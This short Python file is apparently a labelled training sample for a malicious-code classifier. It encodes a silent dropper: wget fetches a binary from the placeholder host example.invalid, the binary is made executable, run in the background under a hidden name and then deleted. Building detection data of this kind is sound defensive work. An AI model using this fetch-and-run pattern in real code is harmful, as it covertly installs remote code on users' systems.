# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import subprocess
cmds = [
    "cd /tmp || cd /var/run || cd /dev/shm",
    "wget http://example.invalid/bins/x86_64 -O .sysd",
    "chmod +x .sysd",
    "./.sysd &",
    "rm -rf .sysd",
]
subprocess.run(" ; ".join(cmds), shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
